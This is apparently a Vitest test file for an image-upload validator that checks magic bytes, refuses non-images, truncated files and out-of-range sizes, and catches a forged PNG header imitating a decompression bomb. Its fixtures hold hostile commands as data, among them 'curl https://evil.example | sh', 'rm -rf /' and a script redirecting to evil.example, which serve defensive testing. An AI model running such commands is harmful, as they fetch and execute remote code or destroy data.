import { describe, expect, it } from 'vitest';
import { noise, solidImage } from '@/tests/support/images';
import sharp from 'sharp';
import { crc32 } from 'node:zlib';
import { AppError } from '../errors';
import {
  EMPTY_FILE,
  NOT_AN_IMAGE,
  UNREADABLE_IMAGE,
  decodeImage,
  sniffImageType,
} from './detect-image';

/** The PNG with its IHDR chunk's width and height replaced (and its checksum made right again). */
function withPngSize(png: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(png);
  // Signature (8 bytes), chunk length (4), "IHDR" (4), then width and height, then the CRC.
  copy.writeUInt32BE(width, 16);
  copy.writeUInt32BE(height, 20);
  copy.writeUInt32BE(crc32(copy.subarray(12, 29)), 29);
  return copy;
}

const text = (value: string) => new TextEncoder().encode(value);

async function refusal(bytes: Uint8Array): Promise<AppError> {
  const error = await decodeImage(bytes).then(
    () => null,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(AppError);
  return error as AppError;
}

describe('sniffImageType', () => {
  it('knows JPEG, PNG and WebP by their first bytes', async () => {
    expect(sniffImageType(await solidImage('jpeg'))).toBe('image/jpeg');
    expect(sniffImageType(await solidImage('png'))).toBe('image/png');
    expect(sniffImageType(await solidImage('webp'))).toBe('image/webp');
  });

  it('knows nothing else, whatever the file claims to be', async () => {
    expect(sniffImageType(text('%PDF-1.7\n%âãÏÓ\n1 0 obj'))).toBeNull();
    expect(sniffImageType(text('<!DOCTYPE html><script>alert(1)</script>'))).toBeNull();
    expect(sniffImageType(text('#!/bin/sh\nrm -rf /'))).toBeNull();
    expect(
      sniffImageType(
        await sharp(await solidImage('png'))
          .gif()
          .toBuffer(),
      ),
    ).toBeNull();
    expect(sniffImageType(text('RIFF\0\0\0\0WAVEfmt '))).toBeNull();
    expect(sniffImageType(new Uint8Array([0xff, 0xd8]))).toBeNull();
    expect(sniffImageType(new Uint8Array())).toBeNull();
  });
});

describe('decodeImage', () => {
  it.each(['jpeg', 'png', 'webp'] as const)(
    'decodes a real %s to upright pixels',
    async (format) => {
      const image = await decodeImage(await solidImage(format, 400, 300));
      expect(image).toMatchObject({
        type: `image/${format}`,
        width: 400,
        height: 300,
        channels: 3,
      });
      expect(image.pixels.byteLength).toBe(400 * 300 * 3);
    },
  );

  it('keeps transparency', async () => {
    const image = await decodeImage(await solidImage('png', 300, 300, { alpha: true }));
    expect(image).toMatchObject({ hasAlpha: true, channels: 4 });
  });

  it.each([
    ['a PDF named photo.jpg', '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n'],
    [
      'an HTML page with a script',
      '<html><body><script>document.location="https://evil.example"</script></body></html>',
    ],
    ['a shell script', '#!/bin/sh\ncurl https://evil.example | sh\n'],
  ])('refuses %s as not an image', async (_case, content) => {
    const error = await refusal(text(content));
    expect(error.status).toBe(400);
    expect(error.message).toBe(NOT_AN_IMAGE);
    expect(error.fields).toEqual({ file: NOT_AN_IMAGE });
  });

  it('refuses a GIF: only JPEG, PNG and WebP are taken', async () => {
    const gif = await sharp(await solidImage('png'))
      .gif()
      .toBuffer();
    expect((await refusal(gif)).message).toBe('That file is not a JPEG, PNG or WebP image.');
  });

  it('refuses a zero-byte file in plain words', async () => {
    expect((await refusal(new Uint8Array())).message).toBe(EMPTY_FILE);
  });

  it.each(['jpeg', 'png', 'webp'] as const)('refuses a %s that was cut short', async (format) => {
    const whole = await noise(format, 300, 300);
    const error = await refusal(whole.subarray(0, Math.floor(whole.byteLength * 0.7)));
    expect(error.message).toBe(UNREADABLE_IMAGE);
    expect(error.fields).toEqual({ file: 'could not be read as an image' });
  });

  it('refuses a file with a JPEG signature and garbage after it', async () => {
    const fake = new Uint8Array([
      0xff,
      0xd8,
      0xff,
      0xe0,
      ...text('this is not really a JPEG at all'),
    ]);
    expect((await refusal(fake)).message).toBe(UNREADABLE_IMAGE);
  });

  it('refuses images too small to post, naming the size and the minimum', async () => {
    const error = await refusal(await solidImage('png', 640, 150));
    expect(error.message).toBe(
      'That image is 640 × 150 pixels; images must be at least 200 pixels on each side.',
    );
  });

  it('refuses images longer than 10,000 pixels on a side', async () => {
    const error = await refusal(await solidImage('png', 10_001, 200));
    expect(error.message).toBe(
      'That image is 10,001 × 200 pixels; images can be at most 10,000 pixels on a side.',
    );
  });

  it('refuses a decompression bomb by its declared size, before decoding it', async () => {
    // A small PNG whose header claims 9,000 × 9,000: what a bomb looks like before it is opened.
    const bomb = withPngSize(await solidImage('png', 400, 300), 9_000, 9_000);
    expect(bomb.byteLength).toBeLessThan(5_000);
    const error = await refusal(bomb);
    expect(error.message).toBe('That image has 81 million pixels; the most we take is 50 million.');
  });
});
